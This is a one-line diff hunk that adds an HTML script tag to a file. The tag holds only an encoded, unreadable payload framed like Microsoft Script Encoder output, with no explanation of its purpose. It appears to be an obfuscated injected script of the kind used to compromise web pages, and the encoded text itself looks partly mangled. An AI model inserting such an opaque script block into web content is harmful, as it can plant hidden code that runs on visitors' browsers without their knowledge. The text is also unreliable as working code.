@@ -1,0 +1,1 @@
+<script>~^ageaaa==w!x^dkkxp6 mb m+oemx~c)ink^es+xd adby a ii&pi0!umdkgu,0 cbpdny!.pc)pll:ai&~&*izjm~~www,*irb4;ei!j/1 drwo*p0;x1okkx~wvl.y;d~m8~p md6p m.p6eumdkgu,0 mb m+y!.upm8 $peb8/rp $i8*p0;u1ykgu,0 cl*m+o!d pl)p&p*i-lm c.,pp $i0!xmdrgx,0 v lb.nde.x,c8aaaaaa==^~</script>
